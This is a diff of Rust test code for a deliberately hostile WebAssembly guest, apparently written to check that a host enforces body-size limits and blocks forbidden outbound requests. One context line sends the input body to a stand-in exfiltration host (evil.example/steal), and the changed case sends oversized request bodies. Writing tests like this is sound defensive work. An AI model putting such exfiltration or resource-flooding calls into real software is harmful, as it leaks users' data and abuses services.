@@ -56,8 +56,9 @@ impl Guest for Hostile {
             }
             "trap" => panic!("hostile transform panicking on purpose"),
             "huge" => {
-                let body = "x".repeat(1 << 20);
-                let reqs = (0..10).map(|_| Request::post(&target()).body("text/plain", body.clone())).collect();
+                // Over the 1 MiB body limit, within the request count.
+                let body = "x".repeat((1 << 20) + 1);
+                let reqs = (0..4).map(|_| Request::post(&target()).body("text/plain", body.clone())).collect();
                 Ok(send(reqs))
             }
             "forbidden" => Ok(send(vec![Request::post("https://evil.example/steal").json(&serde_json::json!({"e": input.body}))])),
